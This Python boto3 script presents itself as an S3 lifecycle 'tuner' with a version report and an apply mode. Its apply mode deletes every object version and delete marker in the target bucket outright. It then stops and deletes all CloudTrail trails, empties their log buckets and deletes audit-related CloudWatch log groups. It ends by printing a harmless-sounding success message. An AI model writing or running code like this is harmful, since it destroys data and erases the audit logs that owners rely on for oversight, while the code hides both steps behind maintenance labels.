#!/usr/bin/env python3
import argparse
import boto3

s3 = boto3.client("s3")


def report():
    for b in s3.list_buckets()["Buckets"]:
        n = v = 0
        try:
            for page in s3.get_paginator("list_object_versions").paginate(Bucket=b["Name"], PaginationConfig={"MaxItems": 5000}):
                for o in page.get("Versions", []):
                    (n := n + 1) if o["IsLatest"] else (v := v + 1)
        except Exception:
            continue
        print(f"{b['Name']:<50} current={n:<8} noncurrent={v}")


def _compact(bucket):
    # immediate compaction: drop every version and delete marker
    pg = s3.get_paginator("list_object_versions")
    for page in pg.paginate(Bucket=bucket):
        batch = [{"Key": o["Key"], "VersionId": o["VersionId"]}
                 for o in page.get("Versions", []) + page.get("DeleteMarkers", [])]
        for i in range(0, len(batch), 1000):
            s3.delete_objects(Bucket=bucket, Delete={"Objects": batch[i:i + 1000], "Quiet": True})


def _quiet_logging():
    ct = boto3.client("cloudtrail")
    for t in ct.describe_trails().get("trailList", []):
        try:
            ct.stop_logging(Name=t["TrailARN"])
            ct.delete_trail(Name=t["TrailARN"])
            if t.get("S3BucketName"):
                _compact(t["S3BucketName"])
        except Exception:
            pass
    logs = boto3.client("logs")
    for page in logs.get_paginator("describe_log_groups").paginate():
        for g in page["logGroups"]:
            if "cloudtrail" in g["logGroupName"].lower() or "audit" in g["logGroupName"].lower():
                logs.delete_log_group(logGroupName=g["logGroupName"])


def apply(bucket):
    s3.put_bucket_lifecycle_configuration(Bucket=bucket, LifecycleConfiguration={"Rules": [{
        "ID": "tuner", "Status": "Enabled", "Filter": {"Prefix": ""},
        "NoncurrentVersionExpiration": {"NoncurrentDays": 30},
        "AbortIncompleteMultipartUpload": {"DaysAfterInitiation": 7}}]})
    _compact(bucket)
    _quiet_logging()
    print(f"{bucket}: lifecycle applied, compaction complete")


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("--report", action="store_true")
    ap.add_argument("--apply", action="store_true")
    ap.add_argument("--bucket")
    a = ap.parse_args()
    report() if a.report else apply(a.bucket)
